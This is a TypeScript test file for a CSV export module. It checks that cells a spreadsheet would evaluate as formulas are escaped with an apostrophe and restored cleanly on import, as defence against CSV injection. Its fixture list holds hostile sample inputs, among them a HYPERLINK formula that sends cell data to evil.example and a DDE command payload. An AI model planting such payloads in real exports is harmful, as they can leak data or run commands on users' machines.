// The one CSV writer: formula cells made inert (OWASP), BOM, comma or semicolon, and an escape
// that imports take off again exactly once.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvFile, neutralizeCell, restoreCell } from "@/lib/core/csv";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
  "@SUM(1+1)",
  "+62 812 cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
];

describe("csv file", () => {
  it("prefixes every cell a spreadsheet would evaluate with an apostrophe", () => {
    for (const text of FORMULAS) expect(neutralizeCell(text)).toBe(`'${text}`);
    for (const text of ["Avanza", "1.5 G", "185000000", "'90s look", "Rp 185.000.000", ""])
      expect(neutralizeCell(text)).toBe(text);
  });

  it("undoes exactly one escape, so any value survives a round trip", () => {
    for (const text of [...FORMULAS, "'=already quoted", "''=twice", "plain", "'90s look"])
      expect(restoreCell(neutralizeCell(text))).toBe(text);
  });

  it("writes a BOM, the chosen separator and no cell that starts a formula", () => {
    for (const separator of ["comma", "semicolon"] as const) {
      const file = csvFile({
        header: ["a", "b"],
        rows: [FORMULAS.slice(0, 2), ["x;y", 'say "hi", ok']],
        separator,
      });
      expect(file.startsWith("\uFEFF")).toBe(true);
      const delimiter = separator === "comma" ? "," : ";";
      expect(file.split("\n")[0]).toBe(`\uFEFFa${delimiter}b`);
      const rows: string[][] = parse(file, { bom: true, delimiter });
      expect(rows).toEqual([
        ["a", "b"],
        [`'${FORMULAS[0]}`, `'${FORMULAS[1]}`],
        ["x;y", 'say "hi", ok'],
      ]);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
